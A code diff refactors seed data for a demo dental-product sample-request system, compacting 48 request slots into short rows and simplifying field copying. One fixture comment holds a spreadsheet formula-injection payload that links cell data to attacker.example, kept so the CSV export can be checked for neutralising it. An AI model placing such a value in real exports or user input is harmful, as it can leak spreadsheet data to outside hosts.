@@ -603,81 +603,94 @@ interface RequestSlot {
   comments?: string;
 }
 
-/** 48 fixed slots: company, status and age are fixed; products and free text come from a seeded PRNG. */
+type SlotRow = [
+  who: number,
+  status: RequestStatus,
+  daysAgo: number,
+  overrides?: Pick<RequestSlot, "email" | "comments">,
+];
+
+/** One company's slots, from short rows. */
+function slotsFor(companyId: DemoCompanyWithProducts, rows: readonly SlotRow[]): RequestSlot[] {
+  return rows.map(([who, status, daysAgo, overrides]) => ({
+    who,
+    companyId,
+    status,
+    daysAgo,
+    ...overrides,
+  }));
+}
+
+/** A comment a spreadsheet would run as a formula: the CSV export must neutralise it. */
+const CSV_FORMULA_COMMENT = '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")';
+
+/**
+ * 48 fixed slots: company, status and age are fixed; products and free text come from a seeded
+ * PRNG. Each row is [requester index, status, days ago, overrides].
+ */
 const SLOTS: readonly RequestSlot[] = [
-  // lumina-dental ×12
-  { who: 0, companyId: "lumina-dental", status: "pending", daysAgo: 1 },
-  { who: 9, companyId: "lumina-dental", status: "pending", daysAgo: 3 },
-  { who: 12, companyId: "lumina-dental", status: "approved", daysAgo: 6 },
-  { who: 14, companyId: "lumina-dental", status: "completed", daysAgo: 18 },
-  { who: 22, companyId: "lumina-dental", status: "pending", daysAgo: 25 },
-  { who: 10, companyId: "lumina-dental", status: "approved", daysAgo: 41 },
-  { who: 25, companyId: "lumina-dental", status: "completed", daysAgo: 77 },
-  {
-    who: 0,
-    companyId: "lumina-dental",
-    status: "completed",
-    daysAgo: 130,
-    email: "dr.kim@example.com",
-  },
-  { who: 18, companyId: "lumina-dental", status: "rejected", daysAgo: 165 },
-  { who: 30, companyId: "lumina-dental", status: "completed", daysAgo: 240 },
-  { who: 21, companyId: "lumina-dental", status: "completed", daysAgo: 372 },
-  { who: 11, companyId: "lumina-dental", status: "rejected", daysAgo: 395 },
-  // bondline ×7
-  { who: 19, companyId: "bondline", status: "pending", daysAgo: 2 },
-  { who: 5, companyId: "bondline", status: "approved", daysAgo: 12 },
-  { who: 0, companyId: "bondline", status: "approved", daysAgo: 29, email: "DR.KIM@EXAMPLE.COM" },
-  { who: 29, companyId: "bondline", status: "completed", daysAgo: 58 },
-  { who: 24, companyId: "bondline", status: "completed", daysAgo: 143 },
-  { who: 11, companyId: "bondline", status: "rejected", daysAgo: 201 },
-  { who: 14, companyId: "bondline", status: "completed", daysAgo: 381 },
-  // precision-impression ×6
-  { who: 5, companyId: "precision-impression", status: "pending", daysAgo: 4 },
-  { who: 3, companyId: "precision-impression", status: "approved", daysAgo: 21 },
-  { who: 17, companyId: "precision-impression", status: "completed", daysAgo: 66 },
-  { who: 20, companyId: "precision-impression", status: "completed", daysAgo: 112 },
-  { who: 19, companyId: "precision-impression", status: "rejected", daysAgo: 288 },
-  { who: 29, companyId: "precision-impression", status: "completed", daysAgo: 367 },
-  // brightarc ×6
-  { who: 22, companyId: "brightarc", status: "pending", daysAgo: 5 },
-  {
-    who: 10,
-    companyId: "brightarc",
-    status: "pending",
-    daysAgo: 9,
-    email: "maria.lopez@example.com",
-  },
-  { who: 30, companyId: "brightarc", status: "approved", daysAgo: 37 },
-  {
-    who: 18,
-    companyId: "brightarc",
-    status: "completed",
-    daysAgo: 95,
-    comments: '=HYPERLINK("https://attacker.example/?q="&A1,"Click for discount")',
-  },
-  { who: 12, companyId: "brightarc", status: "rejected", daysAgo: 188 },
-  { who: 28, companyId: "brightarc", status: "completed", daysAgo: 330 },
-  // guardent ×6
-  { who: 4, companyId: "guardent", status: "pending", daysAgo: 0 },
-  { who: 16, companyId: "guardent", status: "approved", daysAgo: 15 },
-  { who: 26, companyId: "guardent", status: "completed", daysAgo: 49 },
-  { who: 6, companyId: "guardent", status: "completed", daysAgo: 156 },
-  { who: 8, companyId: "guardent", status: "rejected", daysAgo: 222 },
-  { who: 4, companyId: "guardent", status: "completed", daysAgo: 389 },
-  // endopath ×6
-  { who: 2, companyId: "endopath", status: "pending", daysAgo: 2 },
-  { who: 13, companyId: "endopath", status: "approved", daysAgo: 11 },
-  { who: 23, companyId: "endopath", status: "completed", daysAgo: 34 },
-  { who: 7, companyId: "endopath", status: "rejected", daysAgo: 120 },
-  { who: 31, companyId: "endopath", status: "completed", daysAgo: 259 },
-  { who: 2, companyId: "endopath", status: "completed", daysAgo: 399 },
-  // alignworks ×5
-  { who: 15, companyId: "alignworks", status: "pending", daysAgo: 6 },
-  { who: 1, companyId: "alignworks", status: "approved", daysAgo: 27 },
-  { who: 27, companyId: "alignworks", status: "completed", daysAgo: 88 },
-  { who: 1, companyId: "alignworks", status: "rejected", daysAgo: 176 },
-  { who: 15, companyId: "alignworks", status: "completed", daysAgo: 312 },
+  ...slotsFor("lumina-dental", [
+    [0, "pending", 1],
+    [9, "pending", 3],
+    [12, "approved", 6],
+    [14, "completed", 18],
+    [22, "pending", 25],
+    [10, "approved", 41],
+    [25, "completed", 77],
+    [0, "completed", 130, { email: "dr.kim@example.com" }],
+    [18, "rejected", 165],
+    [30, "completed", 240],
+    [21, "completed", 372],
+    [11, "rejected", 395],
+  ]),
+  ...slotsFor("bondline", [
+    [19, "pending", 2],
+    [5, "approved", 12],
+    [0, "approved", 29, { email: "DR.KIM@EXAMPLE.COM" }],
+    [29, "completed", 58],
+    [24, "completed", 143],
+    [11, "rejected", 201],
+    [14, "completed", 381],
+  ]),
+  ...slotsFor("precision-impression", [
+    [5, "pending", 4],
+    [3, "approved", 21],
+    [17, "completed", 66],
+    [20, "completed", 112],
+    [19, "rejected", 288],
+    [29, "completed", 367],
+  ]),
+  ...slotsFor("brightarc", [
+    [22, "pending", 5],
+    [10, "pending", 9, { email: "maria.lopez@example.com" }],
+    [30, "approved", 37],
+    [18, "completed", 95, { comments: CSV_FORMULA_COMMENT }],
+    [12, "rejected", 188],
+    [28, "completed", 330],
+  ]),
+  ...slotsFor("guardent", [
+    [4, "pending", 0],
+    [16, "approved", 15],
+    [26, "completed", 49],
+    [6, "completed", 156],
+    [8, "rejected", 222],
+    [4, "completed", 389],
+  ]),
+  ...slotsFor("endopath", [
+    [2, "pending", 2],
+    [13, "approved", 11],
+    [23, "completed", 34],
+    [7, "rejected", 120],
+    [31, "completed", 259],
+    [2, "completed", 399],
+  ]),
+  ...slotsFor("alignworks", [
+    [15, "pending", 6],
+    [1, "approved", 27],
+    [27, "completed", 88],
+    [1, "rejected", 176],
+    [15, "completed", 312],
+  ]),
 ];
 
 const SPECIFIC_REQUESTS: readonly string[] = [
@@ -761,18 +774,8 @@ export function buildDemoSampleRequests(now: Date): DemoSampleRequest[] {
     );
 
     return {
-      firstName: requester.firstName,
-      lastName: requester.lastName,
+      ...requester,
       email: slot.email ?? requester.email,
-      phone: requester.phone,
-      licenseNumber: requester.licenseNumber,
-      practiceName: requester.practiceName,
-      practiceType: requester.practiceType,
-      yearsInPractice: requester.yearsInPractice,
-      street: requester.street,
-      city: requester.city,
-      state: requester.state,
-      zipCode: requester.zipCode,
       requestedProducts: products.map((p) => ({
         productId: p.id,
         productName: p.name,
@@ -780,9 +783,6 @@ export function buildDemoSampleRequests(now: Date): DemoSampleRequest[] {
       })),
       specificRequests,
       comments,
-      howHeardAbout: requester.howHeardAbout,
-      allowMarketing: requester.allowMarketing,
-      subscribeUpdates: requester.subscribeUpdates,
       agreedToTerms: true,
       companyId: slot.companyId,
       status: slot.status,
